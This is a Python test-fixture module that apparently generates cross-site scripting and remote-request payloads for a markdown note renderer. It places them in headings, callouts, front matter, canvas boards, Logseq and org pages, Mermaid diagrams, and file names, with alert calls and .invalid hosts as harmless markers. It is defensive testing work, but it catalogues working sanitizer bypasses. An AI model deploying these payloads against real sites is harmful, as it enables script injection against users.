"""Attempts to make a page run a script or ask another host: every payload in every place where a note can hold words.

A script that runs calls `alert` with the name of its attempt; a request goes to a host of that name. A note holds
several attempts, a rule between them, unless it is asked to hold one, since one that stays open can hide the next.
"""

import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import TypeVar
from urllib.parse import quote

Item = TypeVar("Item")

SCRIPTS = (
    "<script>RUN</script>",
    "<script src=data:text/javascript,RUN></script>",
    "<img src=x onerror=RUN>",
    '"><img src=x onerror=RUN>',
    "'-RUN-'",
    "</script><script>RUN</script>",
    "--></style></title></textarea><svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<body onload=RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<object data=javascript:RUN></object><embed src=javascript:RUN>",
    "<form><button formaction=javascript:RUN>press</button></form>",
    "<a href=javascript:RUN>press</a>",
    "<a href='jAva&#10;script:RUN'>press</a>",
    "<a href='&#1;&#106;avascript&colon;RUN'>press</a>",
    "<svg><a xlink:href=javascript:RUN><text y=20>press</text></a></svg>",
    "<math href=javascript:RUN><mtext>press</mtext></math>",
    "[press](javascript:RUN)",
    "[press](<jAvAsCrIpT&colon;RUN>)",
    "[press](data:text/html,<script>RUN</script>)",
    "<javascript:RUN>",
    "<style>@keyframes x{}</style><p style=animation:x onanimationstart=RUN>x</p>",
    "<base href=javascript:/RUN//><a href=x>press</a>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<template><script>RUN</script></template><noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    '<details open title="&#xfdd0;(">x</details>&#xfdd1;" ontoggle=RUN <b>y</b>',
    '<img src="x" title="&#xfdd0;)^a&#xfdd1;" alt="\ufdd0(^a\ufdd1" onerror=RUN>',
    '<a title="<a b=" lang=" href=" dir=" onclick=RUN x=" href="notegen:0">press</a>',
    '<img src="notegen-formula:0" onerror=RUN><img src="notegen:0" alt="\' onerror=RUN">',
    "<div title='\n\n# h\n\n<img src=x onerror=RUN>\n\n'>",
    "<p class='callout-title' data-callout='\"onclick=RUN'>x</p>"
    "<input type=checkbox aria-label='marked \"><img onerror=RUN src=x>'>",
    "{{ ''.__class__ }}{% raw %}</script><script>RUN</script>",
)  # fmt: skip
"""Each with `RUN` where it would run."""

FAR = (
    "![x](HTTP://HOST/x.png)",
    "![x](hTTps://HOST/x.png)",
    "![x](ftp://HOST/x.png)",
    "![x](ws://HOST/x.png)",
    "![x](//HOST/x.png)",
    "![x](\\\\\\\\HOST/x.png) ![y](/\\\\HOST/y.png)",
    "![x](ht&#116;p://HOST/x.png)",
    "![x][far]\n\n[far]: http://HOST/x.png",
    "[![x](http://HOST/x.png)](HTTP://HOST/y.png)",
    "![[HTTP://HOST/x.png]] ![[//HOST/x.png]]",
    "<img src=HTTP://HOST/x.png><img src='//HOST/x.png'>",
    "<img src=' &#9;ht&#10;tp://HOST/x.png'><img src='/\\HOST/x.png'><img src='\\\\HOST/x.png'>",
    "<img src=x srcset='http://HOST/x.png 1x'><picture><source srcset=http://HOST/x.png></picture>",
    "<video src=http://HOST/x poster=http://HOST/y autoplay></video><audio src=//HOST/x autoplay></audio>",
    "<video autoplay><source src=HTTP://HOST/x><track src=http://HOST/y default></video>",
    "<p style='background:url(http://HOST/x)'>x</p><td background=http://HOST/x><body background=//HOST/y>",
    "<style>@import url(http://HOST/x);*{background:url(//HOST/y)}</style>",
    "<link rel=stylesheet href=http://HOST/x><link rel=preconnect href=http://HOST><link rel=icon href=//HOST/y>",
    "<base href=http://HOST/><meta http-equiv=refresh content='0;url=http://HOST/x'>",
    "<iframe src=http://HOST/x></iframe><object data=http://HOST/y></object><embed src=//HOST/z>",
    "<svg><image href=http://HOST/x /><use xlink:href=http://HOST/y#z /><feImage href=//HOST/z></svg>",
    "<svg><rect fill='url(http://HOST/x#a)' width=9 height=9 /></svg><input type=image src=http://HOST/y>",
    "<script src=http://HOST/x></script><script>fetch('//HOST/y')</script>",
)  # fmt: skip
"""Each with `HOST` where it would ask."""

DIAGRAMS = (
    '%%{init: {"themeCSS": "*{background:url(http://HOST/x)}"} }%%\ngraph TD\nA-->B',
    '%%{init: {"fontFamily": "x;} *{background:url(http://HOST/x)}"} }%%\ngraph TD\nA-->B',
    '%%{init: {"themeVariables": {"primaryColor": "url(http://HOST/x)"}, "securityLevel": "loose"}}%%'
    "\ngraph TD\nA-->B",
    '---\nconfig:\n  themeCSS: "*{background:url(http://HOST/x)}"\n  securityLevel: loose\n---\ngraph TD\nA-->B',
    'graph TD\nA["<img src=http://HOST/x onerror=RUN>"]-->B["<style>*{background:url(//HOST/y)}</style>"]',
    'graph TD\nA["<svg><image href=http://HOST/x></svg><video poster=//HOST/y>"]-->B',
    'graph TD\nA@{ img: "http://HOST/x.png", label: "x", w: 60, h: 60 }\nB@{ "img": \'//HOST/y.png\', label: "y" }',
    'graph TD\nA@{ icon: "http://HOST/x", form: square, label: "x" }-->B',
    'graph TD\nA-->B\nclick A "javascript:RUN" _self\nclick B call alert("NAME")',
    "graph TD\nA-->B\nclick A href \"jAva\tscript:RUN\"\nstyle A fill:url(http://HOST/x),background:url('//HOST/y')",
    "graph TD\nA:::c-->B\nclassDef c background:url(http://HOST/x),mask:url(//HOST/y)\n"
    "linkStyle 0 stroke:url(http://HOST/z)",
    'sequenceDiagram\nparticipant A\nlink A: x @ javascript:RUN\nA->>B: <img src=http://HOST/x onerror=RUN>',
    'pie title <img src=http://HOST/x onerror=RUN>\n"<script>RUN</script>" : 1',
    "classDiagram\nclass A{ +<img src=http://HOST/x onerror=RUN> }\nlink A \"javascript:RUN\"",
    'gantt\ntitle <img src=//HOST/x onerror=RUN>\nsection s\nx :a, 2024-01-01, 1d\nclick a href "javascript:RUN"',
)  # fmt: skip
"""Sources for Mermaid."""


def _quoted(words: str) -> str:
    return json.dumps(" ".join(words.split()), ensure_ascii=False)


def _line(words: str) -> str:
    return " ".join(words.split())


PLACES: Mapping[str, Callable[[str], str]] = {
    "text": lambda words: words,
    "inline": lambda words: f"before {_line(words)} after",
    "heading": lambda words: f"## head {_line(words)}",
    "item": lambda words: f"- [ ] task {_line(words)}\n    - inner {_line(words)} ^b",
    "mark": lambda words: f"- [{words[:1]}] **bold {_line(words)}** ==mark {_line(words)}==",
    "quote": lambda words: f"> {_line(words)}",
    "callout": lambda words: f"> [!note]- {_line(words)}\n> {_line(words)}",
    "callout-kind": lambda words: f"> [!{_line(words)[:50]}]+\n> text",
    "cell": lambda words: (
        f"| a | {_line(words).replace('|', '')} |\n|---|---|\n| {_line(words).replace('|', '')} | b |"
    ),
    "tabs": lambda words: f"a\t{_line(words)}\tb\nc\t{_line(words)}\td",
    "footnote": lambda words: f"see[^n] and^[inline {_line(words)}]\n\n[^n]: {_line(words)}",
    "code": lambda words: f"`{_line(words)}`",
    "fence": lambda words: f'```html title="{_line(words)}" {{1}}\n{words}\n```',
    "fence-kind": lambda words: f"```{_line(words)}\nx\n```",
    "formula": lambda words: (
        f"$x \\text{{{_line(words)}}}$ and $${_line(words)}$$ and $\\href{{{_line(words)}}}{{x}}$"
    ),
    "link-words": lambda words: f"[{_line(words)}](http://127.0.0.1/) [[other|{_line(words)}]]",
    "link-name": lambda words: f"[[{_line(words)}]] ![[{_line(words)}]] [[other#{_line(words)}]]",
    "link-title": lambda words: f"[x](other '{_line(words)}') ![{_line(words)}](x.png \"t {_line(words)}\")",
    "alt": lambda words: f"![{_line(words)}](pic.png) ![[pic.png|{_line(words)}|30x20]]",
    "value": lambda words: f"<b title='{words}'>x</b> <b title=\"{words}\">y</b>",
    "address": lambda words: f"[x](<{_line(words)}>) <{_line(words)}>",
    "tag": lambda words: f"#[[{_line(words)}]] #tag{_line(words)[:20]}",
    "comment": lambda words: f"%% {words} %% <!-- {words} -->",
    "attributes": lambda words: (
        f"[x](other){{: title={_quoted(words)} {_line(words)} }} {{: #{_line(words)}}}\n\n## head {{#{_line(words)}}}"
    ),
    "shortcode": lambda words: (
        f'{{{{< figure src="pic.png" alt={_quoted(words)} caption={_quoted(words)} link={_quoted(words)} >}}}} '
        f"{{{{< other {_quoted(words)} >}}}} {{{{% note title={_quoted(words)} %}}}}x{{{{% /note %}}}} "
        f"[x]({{{{< ref {_quoted(words)} >}}}}) {{{{< img src=`{_line(words)}.png` >}}}} {{{{<{_line(words)}>}}}}"
    ),
    "admonition": lambda words: (
        f'!!! note "{_line(words)}"\n    {_line(words)}\n\n=== "{_line(words)}"\n    x'
    ),
    "markdown-html": lambda words: (
        f"<div markdown=\"1\" title='{_line(words)}' {_line(words)}>\n{words}\n</div>\n<p markdown=1>{_line(words)}</p>"
    ),
    "block": lambda words: f"<div>\n{words}\n</div>",
    "open": lambda words: f"<div title='{words}",
    "mermaid": lambda words: f'```mermaid\ngraph TD\nA["{_line(words)}"]:::internal-link-->B[x]\n```',
}
"""Where in a note's text the words stand."""

FRONT = (
    "title",
    "aliases",
    "tags",
    "description",
    "lang",
    "dir",
    "image",
    "date",
    "permalink",
    "cssclass",
    "other",
    "author",
)


@dataclass(frozen=True, slots=True)
class Attempt:
    """One attempt: its name, and the file that holds it alone."""

    name: str
    file: str
    text: str


def attempts() -> Iterator[Attempt]:
    """All of them, each as a file of its own."""
    for place, put in PLACES.items():
        for number, payload in enumerate((*SCRIPTS, *FAR)):
            name = f"{place}-{number}"
            yield Attempt(name, f"{place}/{name}.md", f"# {name}\n\n{put(_filled(payload, name))}\n")
    for number, source in enumerate(DIAGRAMS):
        name = f"diagram-{number}"
        yield Attempt(name, f"diagram/{name}.md", f"# {name}\n\n```mermaid\n{_filled(source, name)}\n```\n")
    for number, payload in enumerate((*SCRIPTS, *FAR)):
        name = f"front-{number}"
        words = _quoted(_filled(payload, name))
        shown = FRONT if number % 3 else ("title", "aliases", "other")
        lines = [
            f"{key}: {[words] if key in ('aliases', 'tags') else words}".replace("['", "[").replace("']", "]")
            for key in shown
        ]
        yield Attempt(name, f"front/{name}.md", "\n".join(["---", *lines, "---", name]))
        yield from _boards(number, payload)
        yield from _logseq(number, payload)


def _batches(items: Sequence[Item], size: int) -> Iterator[Sequence[Item]]:
    return (items[start : start + size] for start in range(0, len(items), size))


def _boards(number: int, payload: str) -> Iterator[Attempt]:
    name = f"board-{number}"
    words = _filled(payload, name)
    nodes = [
        {"id": "t", "type": "text", "text": words, "x": 0, "y": 0, "width": 9, "height": 9},
        {"id": "g", "type": "group", "label": words, "x": -5, "y": -5, "width": 99, "height": 99},
        {"id": "f", "type": "file", "file": words, "subpath": f"#{words}"},
        {"id": "l", "type": "link", "url": words},
    ]
    edges = [{"fromNode": one, "toNode": "t", "label": words} for one in "tgfl"]
    yield Attempt(name, f"boards/{name}.canvas", json.dumps({"nodes": nodes, "edges": edges}))


def _logseq(number: int, payload: str) -> Iterator[Attempt]:
    name = f"logseq-{number}"
    words, line = _filled(payload, name), _line(_filled(payload, name))
    host = f"{name}.invalid"
    text = (
        f"title:: {line}\n\n- {line}\n- {{{{img HTTP://{host}/i.png, 30, 20}}}} {{{{video {line}}}}} "
        f"{{{{cloze {line}}}}}\n"
        f'- {{{{renderer {line}}}}} [:img {{:src "HTTP://{host}/h.png" :onerror {_quoted(line)}}}]\n'
        f'- [:div {_quoted(line)}] [:a {{:href {_quoted(line)}}} "press"] ^^{line}^^\n'
        f"- #+BEGIN_EXPORT html\n{words}\n#+END_EXPORT\n"
    )
    yield Attempt(name, f"graph/pages/{name}.md", text)
    org = (
        f"#+TITLE: {line}\n* head {line}\n[[HTTP://{host}/o.png][{line}]] ~{line}~ @@html:{line}@@\n"
        f"#+BEGIN_HTML\n{words}\n#+END_HTML\n"
    )
    yield Attempt(name, f"graph/pages/{name}-org.org", org)


def _filled(payload: str, name: str) -> str:
    return payload.replace("RUN", f"alert('{name}')").replace("HOST", f"{name}.invalid").replace("NAME", name)


def garden(*, together: int) -> dict[str, str | bytes]:
    """The files of a garden with all attempts, `together` of one place in a note; every note is embedded in another.

    But those of words in diagrams where several are together: the note of whole diagrams is, and is drawn alike.
    """
    files: dict[str, str | bytes] = {
        "graph/logseq/config.edn": "{}",
        "other.md": "# Other\n\nWords to be found. ^b\n",
        "pic.png": bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                                 "1f15c4890000000d49444154789c6364f8cf500f00038601805a34d76b0000000049454e44ae426082"),
        "drawing.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert('drawing')</script></svg>",
        "page.html": "<script>alert('page')</script>",
        "feed.xml": "<x xmlns='http://www.w3.org/1999/xhtml'><script>alert('feed')</script></x>",
        "kept.log": "\ufeff \n<html><body><script>alert('log')</script></body></html>",
        "kept": "<script>alert('no ending')</script>",
        "kept.ehtml": "Words <script>alert('ehtml')</script>",
        "kept.xsd": "<?xml version='1.0'?>\n<x xmlns='http://www.w3.org/1999/xhtml'><script>alert('xsd')</script></x>",
        "files.md": "[a](drawing.svg) [b](page.html) [c](feed.xml) ![[drawing.svg]] ![[page.html]] "
        "<a href=page.html>d</a> [e](kept.log) [f](kept) [g](kept.ehtml) [h](kept.xsd)\n",
        "<img src=x onerror=alert(name)>.md": "A name.\n",
        "a'\"&<b>/x.md": "A folder's name. #a'\"b\n",
    }  # fmt: skip
    by_place: dict[str, list[Attempt]] = {}
    for attempt in attempts():
        alone = attempt.file.startswith(("front/", "boards/", "graph/")) or together == 1
        if alone:
            files[attempt.file] = attempt.text
        else:
            by_place.setdefault(attempt.file.partition("/")[0], []).append(attempt)
    for place, ones in by_place.items():
        for number, some in enumerate(_batches(ones, together)):
            files[f"{place}/{place}-{number}.md"] = "\n\n---\n\n".join(one.text for one in some)
    embeds = [
        f"![[{name.removesuffix('.md')}]]\n"
        for name in files
        if name.endswith(".md") and "/" in name and "<" not in name
        if together == 1 or not name.startswith("mermaid/")
    ]
    for number, lines in enumerate(_batches(embeds, 12)):
        files[f"embeds/embeds-{number}.md"] = "\n".join(lines)
    return files


def questions(step: int = 1) -> Iterator[tuple[str, str, str]]:
    """Each payload, as one asks it, and as it stands in an address."""
    for number, payload in enumerate(SCRIPTS[::step]):
        words = payload.replace("RUN", f"alert('asked-{number}')")
        yield payload, words, quote(words, safe="")
